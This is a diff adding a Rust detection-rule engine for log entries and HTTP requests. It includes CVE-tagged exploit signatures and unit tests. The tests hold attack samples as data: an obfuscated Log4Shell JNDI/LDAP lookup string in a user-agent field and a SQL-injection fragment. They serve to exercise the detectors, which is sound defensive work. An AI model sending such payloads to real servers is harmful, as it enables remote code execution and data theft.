@@ -0,0 +1,639 @@
+// Detection Rule Engine
+// Detections are data, not code: rules are loaded from TOML or YAML, select
+// fields of a log entry or HTTP request, and match them with literals, any-of
+// lists or regexes. The built-in rules ship as the default pack below; extra
+// rule files are layered on top (a rule with an existing id replaces it).
+// Exploit signatures for specific CVEs ship as a second built-in pack; their
+// findings carry the CVE, the product and the CVE's own CVSS score.
+// Sigma rules are compiled by the `sigma` submodule; time-windowed thresholds
+// over matching entries are evaluated by `alerts`; `allowlist` suppresses
+// known-benign traffic.
+
+pub mod alerts;
+pub mod allowlist;
+pub mod sigma;
+
+use regex::{Regex, RegexBuilder};
+use serde::{Deserialize, Deserializer};
+use std::borrow::Cow;
+use std::collections::BTreeMap;
+use std::path::Path;
+use std::sync::OnceLock;
+
+use crate::LogEntry;
+use crate::cvss::{CVSSScore, Severity, ThreatType, Vulnerability};
+use crate::parsers::ApacheLog;
+
+/// The rules that reproduce the analyzer's historical hardcoded detections
+pub const DEFAULT_RULES: &str = include_str!("default_rules.toml");
+/// CVE-tagged exploit signatures (Log4Shell, Spring4Shell, ShellShock, ...)
+pub const EXPLOIT_RULES: &str = include_str!("exploit_rules.toml");
+
+/// Anything rules can select fields from
+pub trait FieldSource {
+    /// Value of a named field, or `None` when the source has no such field
+    fn field(&self, name: &str) -> Option<Cow<'_, str>>;
+}
+
+/// `message`, `level`, `ip`, `username`, `timestamp`, plus any structured
+/// field captured by the parser (`http.path`, `container.stream`, ...)
+impl FieldSource for LogEntry {
+    fn field(&self, name: &str) -> Option<Cow<'_, str>> {
+        match name {
+            "message" => Some(Cow::Borrowed(&self.message)),
+            "level" => Some(Cow::Borrowed(&self.level)),
+            "ip" => self.ip_address.as_deref().map(Cow::Borrowed),
+            "username" | "user" => self.username.as_deref().map(Cow::Borrowed),
+            "timestamp" => Some(Cow::Borrowed(&self.timestamp)),
+            other => self.fields.get(other).map(|v| Cow::Borrowed(v.as_str())),
+        }
+    }
+}
+
+/// `http.method`, `http.path`, `http.protocol`, `http.status`, `http.size`,
+/// `http.referer`, `http.user_agent` and `ip`
+impl FieldSource for ApacheLog {
+    fn field(&self, name: &str) -> Option<Cow<'_, str>> {
+        match name.strip_prefix("http.").unwrap_or(name) {
+            "ip" => Some(Cow::Borrowed(&self.ip)),
+            "method" => Some(Cow::Borrowed(&self.method)),
+            "path" => Some(Cow::Borrowed(&self.path)),
+            "protocol" => Some(Cow::Borrowed(&self.protocol)),
+            "status" => Some(Cow::Owned(self.status.to_string())),
+            "size" => Some(Cow::Owned(self.size.to_string())),
+            "referer" => Some(Cow::Borrowed(&self.referer)),
+            "user_agent" => Some(Cow::Borrowed(&self.user_agent)),
+            _ => None,
+        }
+    }
+}
+
+/// What a detector found
+#[derive(Debug, Clone, PartialEq)]
+pub struct Detection {
+    pub rule_id: String,
+    /// Display name of the rule (e.g. "SQL Injection")
+    pub name: String,
+    pub threat_type: Option<ThreatType>,
+    pub severity: Severity,
+    /// Field that satisfied the first positive condition
+    pub field: String,
+    /// Literal or regex match found in that field
+    pub matched: String,
+    /// The CVE an exploit signature targets
+    pub vulnerability: Option<Vulnerability>,
+}
+
+/// A single detection, data-driven or hand-written
+pub trait Detector {
+    fn id(&self) -> &str;
+    fn detect(&self, source: &dyn FieldSource) -> Option<Detection>;
+}
+
+/// Where a rule runs
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum RuleScope {
+    /// Every parsed log entry (BasicAnalyzer)
+    #[default]
+    Log,
+    /// Apache/nginx requests (ApacheLog::analyze)
+    Http,
+}
+
+/// One field test. Positive matchers (`equals`, `contains`, `any_of`,
+/// `all_of`, `regex`) must all hold; `none_of` is a negation on the same field.
+#[derive(Debug, Clone, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct Condition {
+    pub field: String,
+    #[serde(default, deserialize_with = "one_or_many")]
+    pub equals: Vec<String>,
+    #[serde(default)]
+    pub contains: Option<String>,
+    #[serde(default)]
+    pub any_of: Vec<String>,
+    #[serde(default)]
+    pub all_of: Vec<String>,
+    #[serde(default)]
+    pub regex: Option<String>,
+    #[serde(default)]
+    pub none_of: Vec<String>,
+    #[serde(default)]
+    pub case_sensitive: bool,
+    #[serde(skip)]
+    compiled: Option<Regex>,
+}
+
+impl Condition {
+    fn compile(&mut self) -> Result<(), String> {
+        let positive = !self.equals.is_empty()
+            || self.contains.is_some()
+            || !self.any_of.is_empty()
+            || !self.all_of.is_empty()
+            || self.regex.is_some();
+        if !positive {
+            return Err(format!(
+                "condition on '{}' needs one of equals, contains, any_of, all_of or regex",
+                self.field
+            ));
+        }
+
+        if let Some(pattern) = &self.regex {
+            let re = RegexBuilder::new(pattern)
+                .case_insensitive(!self.case_sensitive)
+                .build()
+                .map_err(|e| format!("invalid regex on '{}': {}", self.field, e))?;
+            self.compiled = Some(re);
+        }
+
+        if !self.case_sensitive {
+            let lower = |list: &mut Vec<String>| list.iter_mut().for_each(|s| *s = s.to_lowercase());
+            lower(&mut self.equals);
+            lower(&mut self.any_of);
+            lower(&mut self.all_of);
+            lower(&mut self.none_of);
+            if let Some(c) = &mut self.contains {
+                *c = c.to_lowercase();
+            }
+        }
+        Ok(())
+    }
+
+    /// Evaluate against a source; returns the matched text on success
+    pub fn evaluate(&self, source: &dyn FieldSource) -> Option<String> {
+        let value = source.field(&self.field)?;
+        let haystack: Cow<str> = if self.case_sensitive {
+            value
+        } else {
+            Cow::Owned(value.to_lowercase())
+        };
+
+        let mut matched: Option<String> = None;
+        let mut note = |m: &str| {
+            if matched.is_none() {
+                matched = Some(m.to_string());
+            }
+        };
+
+        if !self.equals.is_empty() {
+            note(self.equals.iter().find(|e| **e == haystack)?);
+        }
+        if let Some(needle) = &self.contains {
+            if !haystack.contains(needle.as_str()) {
+                return None;
+            }
+            note(needle);
+        }
+        if !self.any_of.is_empty() {
+            note(self.any_of.iter().find(|n| haystack.contains(n.as_str()))?);
+        }
+        if !self.all_of.is_empty() {
+            if !self.all_of.iter().all(|n| haystack.contains(n.as_str())) {
+                return None;
+            }
+            note(&self.all_of[0]);
+        }
+        if let Some(re) = &self.compiled {
+            // Match against the original value; case folding is in the regex
+            let found = source.field(&self.field).and_then(|v| re.find(&v).map(|m| m.as_str().to_string()))?;
+            note(&found);
+        }
+        if self.none_of.iter().any(|n| haystack.contains(n.as_str())) {
+            return None;
+        }
+
+        matched
+    }
+}
+
+/// A data-driven detection rule
+#[derive(Debug, Clone, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct Rule {
+    pub id: String,
+    pub name: String,
+    #[serde(default)]
+    pub description: String,
+    #[serde(default)]
+    pub scope: RuleScope,
+    /// Threat type name as accepted by `ThreatType::from_name`
+    #[serde(default)]
+    pub threat_type: Option<String>,
+    pub severity: Severity,
+    #[serde(default = "enabled_by_default")]
+    pub enabled: bool,
+    #[serde(default)]
+    pub tags: Vec<String>,
+    #[serde(default)]
+    pub metadata: BTreeMap<String, String>,
+    /// Every condition must match
+    #[serde(default)]
+    pub all: Vec<Condition>,
+    /// At least one condition must match (when present)
+    #[serde(default)]
+    pub any: Vec<Condition>,
+    /// Any matching condition suppresses the rule
+    #[serde(default)]
+    pub exclude: Vec<Condition>,
+    /// CVE the rule detects exploitation of; needs `cvss_vector`
+    #[serde(default)]
+    pub cve: Option<String>,
+    /// Product the CVE affects
+    #[serde(default)]
+    pub product: Option<String>,
+    /// The CVE's CVSS 3.x base vector, scored in place of the threat type's
+    #[serde(default)]
+    pub cvss_vector: Option<String>,
+    #[serde(skip)]
+    threat: Option<ThreatType>,
+    #[serde(skip)]
+    vulnerability: Option<Vulnerability>,
+}
+
+fn enabled_by_default() -> bool {
+    true
+}
+
+impl Rule {
+    fn compile(&mut self) -> Result<(), String> {
+        let context = |e: String| format!("rule '{}': {}", self.id, e);
+        if self.all.is_empty() && self.any.is_empty() {
+            return Err(context("needs at least one condition in `all` or `any`".to_string()));
+        }
+        self.threat = match &self.threat_type {
+            Some(name) => Some(
+                ThreatType::from_name(name)
+                    .ok_or_else(|| context(format!("unknown threat_type '{}'", name)))?,
+            ),
+            None => None,
+        };
+        self.vulnerability = match (&self.cve, &self.cvss_vector) {
+            (Some(cve), Some(vector)) => {
+                if !is_cve_id(cve) {
+                    return Err(context(format!("'{}' is not a CVE id (CVE-YYYY-NNNN)", cve)));
+                }
+                let explanation = match &self.product {
+                    Some(product) => format!("{} in {}: {}", cve, product, self.name),
+                    None => format!("{}: {}", cve, self.name),
+                };
+                let cvss = CVSSScore::from_vector(vector, explanation).map_err(context)?;
+                Some(Vulnerability {
+                    cve: cve.to_uppercase(),
+                    product: self.product.clone().unwrap_or_default(),
+                    cvss,
+                })
+            }
+            (Some(_), None) => return Err(context("cve needs a cvss_vector".to_string())),
+            (None, Some(_)) => return Err(context("cvss_vector needs a cve".to_string())),
+            (None, None) => None,
+        };
+        for condition in self.all.iter_mut().chain(&mut self.any).chain(&mut self.exclude) {
+            condition.compile().map_err(context)?;
+        }
+        Ok(())
+    }
+
+    pub fn threat(&self) -> Option<&ThreatType> {
+        self.threat.as_ref()
+    }
+
+    /// The CVE the rule targets, with its score
+    pub fn vulnerability(&self) -> Option<&Vulnerability> {
+        self.vulnerability.as_ref()
+    }
+}
+
+impl Detector for Rule {
+    fn id(&self) -> &str {
+        &self.id
+    }
+
+    fn detect(&self, source: &dyn FieldSource) -> Option<Detection> {
+        if !self.enabled {
+            return None;
+        }
+
+        let mut evidence: Option<(String, String)> = None;
+        for condition in &self.all {
+            let matched = condition.evaluate(source)?;
+            evidence.get_or_insert((condition.field.clone(), matched));
+        }
+        if !self.any.is_empty() {
+            let (field, matched) = self
+                .any
+                .iter()
+                .find_map(|c| c.evaluate(source).map(|m| (c.field.clone(), m)))?;
+            evidence.get_or_insert((field, matched));
+        }
+        if self.exclude.iter().any(|c| c.evaluate(source).is_some()) {
+            return None;
+        }
+
+        let (field, matched) = evidence?;
+        Some(Detection {
+            rule_id: self.id.clone(),
+            name: self.name.clone(),
+            threat_type: self.threat.clone(),
+            severity: self.severity.clone(),
+            field,
+            matched,
+            vulnerability: self.vulnerability.clone(),
+        })
+    }
+}
+
+/// `CVE-<year>-<sequence of 4+ digits>`
+fn is_cve_id(id: &str) -> bool {
+    let mut parts = id.split('-');
+    matches!(
+        (parts.next(), parts.next(), parts.next(), parts.next()),
+        (Some(prefix), Some(year), Some(number), None)
+            if prefix.eq_ignore_ascii_case("cve")
+                && year.len() == 4
+                && number.len() >= 4
+                && year.chars().chain(number.chars()).all(|c| c.is_ascii_digit())
+    )
+}
+
+/// An ordered collection of rules
+#[derive(Debug, Clone, Default)]
+pub struct RuleSet {
+    rules: Vec<Rule>,
+}
+
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct RuleFile {
+    #[serde(default)]
+    rules: Vec<Rule>,
+}
+
+impl RuleSet {
+    /// The built-in rules, then the built-in exploit signatures
+    pub fn default_pack() -> Self {
+        let mut set = Self::from_toml_str(DEFAULT_RULES).expect("built-in rule pack is valid");
+        set.extend(Self::from_toml_str(EXPLOIT_RULES).expect("built-in exploit pack is valid"));
+        set
+    }
+
+    pub fn from_toml_str(text: &str) -> Result<Self, String> {
+        let file: RuleFile = toml::from_str(text).map_err(|e| format!("Invalid TOML rules: {}", e))?;
+        Self::compile(file.rules)
+    }
+
+    pub fn from_yaml_str(text: &str) -> Result<Self, String> {
+        let file: RuleFile = serde_yaml::from_str(text).map_err(|e| format!("Invalid YAML rules: {}", e))?;
+        Self::compile(file.rules)
+    }
+
+    /// Load a `.toml`, `.yaml` or `.yml` rule file
+    pub fn from_file(path: &Path) -> Result<Self, String> {
+        let text = std::fs::read_to_string(path)
+            .map_err(|e| format!("Failed to read rule file {}: {}", path.display(), e))?;
+        let ext = path.extension().and_then(|e| e.to_str()).unwrap_or_default().to_lowercase();
+        let result = match ext.as_str() {
+            "yaml" | "yml" => Self::from_yaml_str(&text),
+            "toml" => Self::from_toml_str(&text),
+            _ => Err("expected a .toml, .yaml or .yml file".to_string()),
+        };
+        result.map_err(|e| format!("{}: {}", path.display(), e))
+    }
+
+    /// Default pack plus the given rule files, in order
+    pub fn with_files<P: AsRef<Path>>(paths: &[P]) -> Result<Self, String> {
+        let mut set = Self::default_pack();
+        for path in paths {
+            set.extend(Self::from_file(path.as_ref())?);
+        }
+        Ok(set)
+    }
+
+    fn compile(mut rules: Vec<Rule>) -> Result<Self, String> {
+        for rule in &mut rules {
+            rule.compile()?;
+        }
+        Ok(Self { rules })
+    }
+
+    /// Add rules; a rule whose id already exists replaces the existing one
+    /// in place (so a default rule can be tuned or disabled by id)
+    pub fn extend(&mut self, other: RuleSet) {
+        for rule in other.rules {
+            match self.rules.iter_mut().find(|r| r.id == rule.id) {
+                Some(existing) => *existing = rule,
+                None => self.rules.push(rule),
+            }
+        }
+    }
+
+    pub fn rules(&self) -> &[Rule] {
+        &self.rules
+    }
+
+    /// The rule with the given id
+    pub fn get(&self, id: &str) -> Option<&Rule> {
+        self.rules.iter().find(|r| r.id == id)
+    }
+
+    pub fn len(&self) -> usize {
+        self.rules.len()
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.rules.is_empty()
+    }
+
+    /// Every matching rule of the given scope
+    pub fn detect_all(&self, scope: RuleScope, source: &dyn FieldSource) -> Vec<Detection> {
+        self.rules
+            .iter()
+            .filter(|r| r.scope == scope)
+            .filter_map(|r| r.detect(source))
+            .collect()
+    }
+
+    /// The first matching rule of the given scope, in rule order
+    pub fn first_match(&self, scope: RuleScope, source: &dyn FieldSource) -> Option<Detection> {
+        self.rules
+            .iter()
+            .filter(|r| r.scope == scope)
+            .find_map(|r| r.detect(source))
+    }
+}
+
+static ACTIVE_RULES: OnceLock<RuleSet> = OnceLock::new();
+
+/// Install the process-wide rule set. Must be called before the first log is
+/// analyzed; fails if rules are already in use.
+pub fn install(rules: RuleSet) -> Result<(), String> {
+    ACTIVE_RULES
+        .set(rules)
+        .map_err(|_| "detection rules are already initialized".to_string())
+}
+
+/// The process-wide rule set (the default pack unless `install` was called)
+pub fn active() -> &'static RuleSet {
+    ACTIVE_RULES.get_or_init(RuleSet::default_pack)
+}
+
+fn one_or_many<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Vec<String>, D::Error> {
+    #[derive(Deserialize)]
+    #[serde(untagged)]
+    enum OneOrMany {
+        One(String),
+        Many(Vec<String>),
+    }
+    Ok(match OneOrMany::deserialize(deserializer)? {
+        OneOrMany::One(s) => vec![s],
+        OneOrMany::Many(v) => v,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn entry(level: &str, message: &str) -> LogEntry {
+        LogEntry {
+            timestamp: String::new(),
+            level: level.to_string(),
+            ip_address: None,
+            username: None,
+            message: message.to_string(),
+            fields: BTreeMap::new(),
+        }
+    }
+
+    fn ids(detections: &[Detection]) -> Vec<&str> {
+        detections.iter().map(|d| d.rule_id.as_str()).collect()
+    }
+
+    #[test]
+    fn default_pack_loads() {
+        let rules = RuleSet::default_pack();
+        assert!(rules.rules().iter().any(|r| r.scope == RuleScope::Http));
+        assert!(rules.rules().iter().all(|r| r.enabled));
+    }
+
+    #[test]
+    fn malware_rule_excludes_antivirus_but_not_other_keywords() {
+        let rules = RuleSet::default_pack();
+        let hits = |msg| ids(&rules.detect_all(RuleScope::Log, &entry("INFO", msg))).contains(&"log.malware");
+        assert!(!hits("Antivirus definitions updated successfully"));
+        assert!(hits("virus found in upload"));
+        assert!(hits("Antivirus quarantined a trojan"));
+    }
+
+    #[test]
+    fn detection_reports_field_and_match() {
+        let rules = RuleSet::default_pack();
+        let found = rules.detect_all(RuleScope::Log, &entry("INFO", "GET /?id=1 UNION SELECT pw"));
+        let sqli = found.iter().find(|d| d.rule_id == "log.sql_injection").unwrap();
+        assert_eq!(sqli.threat_type, Some(ThreatType::SQLInjection));
+        assert_eq!(sqli.field, "message");
+        assert_eq!(sqli.matched, "union select");
+    }
+
+    #[test]
+    fn loads_yaml_rules_with_regex_and_structured_fields() {
+        let rules = RuleSet::from_yaml_str(
+            r#"
+rules:
+  - id: custom.admin_delete
+    name: Admin deletion
+    threat_type: critical_alert
+    severity: high
+    metadata:
+      owner: secops
+    all:
+      - field: http.method
+        equals: DELETE
+      - field: http.path
+        regex: '^/admin/users/\d+$'
+"#,
+        )
+        .expect("valid rules");
+        let mut e = entry("INFO", "request");
+        e.fields.insert("http.method".to_string(), "delete".to_string());
+        e.fields.insert("http.path".to_string(), "/admin/users/42".to_string());
+        let found = rules.detect_all(RuleScope::Log, &e);
+        assert_eq!(ids(&found), vec!["custom.admin_delete"]);
+        assert_eq!(rules.rules()[0].metadata["owner"], "secops");
+    }
+
+    #[test]
+    fn extending_replaces_rules_by_id() {
+        let mut rules = RuleSet::default_pack();
+        let before = rules.len();
+        rules.extend(
+            RuleSet::from_toml_str(
+                r#"
+                [[rules]]
+                id = "log.port_scan"
+                name = "Port Scanning"
+                severity = "medium"
+                enabled = false
+                [[rules.all]]
+                field = "message"
+                contains = "nmap"
+                "#,
+            )
+            .unwrap(),
+        );
+        assert_eq!(rules.len(), before);
+        let found = rules.detect_all(RuleScope::Log, &entry("INFO", "nmap scan from 10.0.0.1"));
+        assert!(!ids(&found).contains(&"log.port_scan"));
+    }
+
+    #[test]
+    fn rejects_invalid_rules() {
+        let unknown = RuleSet::from_toml_str(
+            "[[rules]]\nid = \"x\"\nname = \"x\"\nseverity = \"low\"\nthreat_type = \"nope\"\n[[rules.all]]\nfield = \"message\"\ncontains = \"a\"\n",
+        );
+        assert!(unknown.unwrap_err().contains("unknown threat_type"));
+
+        let no_matcher = RuleSet::from_toml_str(
+            "[[rules]]\nid = \"x\"\nname = \"x\"\nseverity = \"low\"\n[[rules.all]]\nfield = \"message\"\n",
+        );
+        assert!(no_matcher.unwrap_err().contains("needs one of"));
+
+        let bad_regex = RuleSet::from_toml_str(
+            "[[rules]]\nid = \"x\"\nname = \"x\"\nseverity = \"low\"\n[[rules.all]]\nfield = \"message\"\nregex = \"(\"\n",
+        );
+        assert!(bad_regex.unwrap_err().contains("invalid regex"));
+    }
+
+    #[test]
+    fn exploit_signatures_carry_the_cve() {
+        let rules = RuleSet::default_pack();
+        let mut request = entry("INFO", "GET / - Status: 200 - Normal");
+        request.fields.insert("http.user_agent".to_string(), "${${lower:j}ndi:ldap://x/a}".to_string());
+        let found = rules.detect_all(RuleScope::Log, &request);
+        let log4shell = found.iter().find(|d| d.rule_id == "cve.log4shell").unwrap();
+        let vulnerability = log4shell.vulnerability.as_ref().unwrap();
+        assert_eq!(vulnerability.cve, "CVE-2021-44228");
+        assert_eq!(vulnerability.product, "Apache Log4j 2");
+        assert_eq!(vulnerability.cvss.base_score, 10.0);
+        assert!(rules.rules().iter().filter(|r| r.id.starts_with("cve.")).all(|r| r.vulnerability().is_some()));
+
+        let benign = rules.detect_all(RuleScope::Log, &entry("INFO", "GET /docs/jndi-naming - Status: 200 - Normal"));
+        assert!(benign.iter().all(|d| d.vulnerability.is_none()));
+    }
+
+    #[test]
+    fn rejects_incomplete_cve_tags() {
+        let rule = |extra: &str| {
+            RuleSet::from_toml_str(&format!(
+                "[[rules]]\nid = \"x\"\nname = \"x\"\nseverity = \"high\"\n{}\n[[rules.all]]\nfield = \"message\"\ncontains = \"a\"\n",
+                extra
+            ))
+        };
+        let vector = "cvss_vector = \"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H\"";
+        assert!(rule(&format!("cve = \"CVE-2021-44228\"\n{}", vector)).is_ok());
+        assert!(rule("cve = \"CVE-2021-44228\"").unwrap_err().contains("needs a cvss_vector"));
+        assert!(rule(vector).unwrap_err().contains("needs a cve"));
+        assert!(rule(&format!("cve = \"log4shell\"\n{}", vector)).unwrap_err().contains("not a CVE id"));
+        assert!(rule("cve = \"CVE-2021-44228\"\ncvss_vector = \"CVSS:3.1/AV:N\"").unwrap_err().contains("invalid CVSS vector"));
+    }
+}